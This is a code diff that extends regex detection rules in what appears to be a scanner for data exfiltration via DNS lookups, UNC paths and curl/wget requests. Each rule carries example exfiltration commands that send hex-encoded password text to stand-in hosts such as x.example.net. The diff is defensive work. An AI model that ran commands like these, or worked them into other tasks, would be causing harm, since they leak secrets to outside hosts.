@@ -16,7 +16,7 @@ _NAME = "data-url"
 
 def is_elsewhere(host: str) -> bool:
     """Whether a host is neither this machine nor in its own network."""
-    return not hosts.is_local(hosts.plain_name(host.partition("@")[0]))
+    return not hosts.is_local(hosts.plain_name(re.split(r"[@\\]", host, maxsplit=1)[0]))
 
 
 def spells_in_labels(host: str) -> bool:
@@ -38,10 +38,16 @@ RULES: tuple[Rule, ...] = (
         _NAME,
         _F,
         re.compile(
-            r"(?:dig|nslookup|drill|ping|host|getent hosts|Resolve-DnsName)[ \t](?:[+@-]\S{1,40}[ \t]){0,3}"
-            r"(?P<secret>(?:[\w-]|\$\([^)\n]{1,80}\)|\$\{?\w{1,60}\}?){1,80}\.[\w.-]{3,200})"
+            r"(?:dig|nslookup|drill|ping|host|getent hosts|[Rr]esolve-[Dd]ns[Nn]ame|kdig|delv)[ \t](?:(?:[+@-]\S{1,40}|[A-Z]{1,6})[ \t]){0,4}"
+            r"(?P<secret>(?:[\w-]|\$\([^)\n]{1,80}\)|\$\{?\w{1,60}\}?){1,80}\.(?:[\w.-]|\$\{?\w{1,20}\}?){3,200})"
         ),
-        tuple(f"{program} " for program in (*words("dig nslookup drill ping host Resolve-DnsName"), "getent hosts")),
+        tuple(
+            f"{program} "
+            for program in (
+                *words("dig nslookup drill ping host kdig delv Resolve-DnsName resolve-dnsname"),
+                "getent hosts",
+            )
+        ),
         "nslookup 70617373776f72642069732068756e746572.x.example.net",
         "ping api.acme.dev",
         accept=host_carries_data,
@@ -70,11 +76,34 @@ RULES: tuple[Rule, ...] = (
     Rule(
         _NAME,
         _F,
-        re.compile(r"(?<![\\\w])\\\\(?P<secret>\d{1,3}(?:\.\d{1,3}){3}(?:@\w{1,8})?)\\"),
+        re.compile(r"(?<![\\A-Za-z0-9])\\\\(?P<secret>\d{1,3}(?:\.\d{1,3}){3}(?:@\w{1,8})?\\[^\s\"'<>|]{0,512})"),
         ("\\\\",),
         "copy x \\\\203.0.113.9\\share",
         "copy x \\\\192.168.1.4\\share",
         accept=is_elsewhere,
+    ),
+    Rule(
+        _NAME,
+        _F,
+        re.compile(
+            r"(?<![\\A-Za-z0-9])\\\\(?P<secret>(?:[A-Za-z0-9-]{1,63}\.){1,6}[a-z]{2,12}(?:@\w{1,8})?\\[^\s\"'<>|]{8,512})"
+        ),
+        ("\\\\",),
+        "copy x \\\\files.example.net\\70617373776f72642069732068756e746572\\a",
+        "copy x \\\\files.example.net\\share\\reports\\2026",
+        accept=lambda text: carries_data("https://" + text.replace("\\", "/")),
+    ),
+    Rule(
+        _NAME,
+        _F,
+        re.compile(
+            r"(?:curl|wget|http|xh|iwr)[ \t](?:-{1,2}[\w-]{1,30}(?:[ =](?![a-z0-9.-]+\.[a-z]{2,12}/)\S{1,60})?[ \t]){0,4}"
+            r"[\"']?(?P<secret>(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,12}/[!#-&(-;=?-~]{8,2048})"
+        ),
+        ("curl ", "wget ", "http ", "xh ", "iwr "),
+        "curl -s files.example.net/70617373776f72642069732068756e746572",
+        "curl -fsSL get.example.net/install/v2/linux.sh",
+        accept=lambda text: carries_data(f"https://{text}"),
     ),
     Rule(
         _NAME,
@@ -107,11 +136,24 @@ RULES: tuple[Rule, ...] = (
         _NAME,
         _F,
         re.compile(
-            r"(?:-d|--data(?:-raw|-binary|-urlencode)?|-F|--form|-A|--user-agent|-e|--referer)"
-            r"[ =][\"']?(?:[\w.-]{1,40}=)?"
+            r"(?:-d|--data(?:-raw|-binary|-urlencode)?|-F|--form|-A|--user-agent|-e|--referer|-H|--header|-b|--cookie)"
+            r"[ =][\"']?(?:[\w.-]{1,40}(?:=|:[ ]?))?"
             r"(?P<secret>[A-Za-z0-9+/_-]{16,4096}={0,2})"
         ),
-        ("-d ", "--data", "-F ", "--form", "-A ", "--user-agent", "-e ", "--referer"),
+        (
+            "-d ",
+            "--data",
+            "-F ",
+            "--form",
+            "-A ",
+            "--user-agent",
+            "-e ",
+            "--referer",
+            "-H ",
+            "--header",
+            "-b ",
+            "--cookie",
+        ),
         "curl -d d=70617373776f72642069732068756e7465722e https://x.example.net",
         "curl -d name=kim https://acme.dev/api",
         accept=lambda text: is_telling(hidden_text(text) or ""),
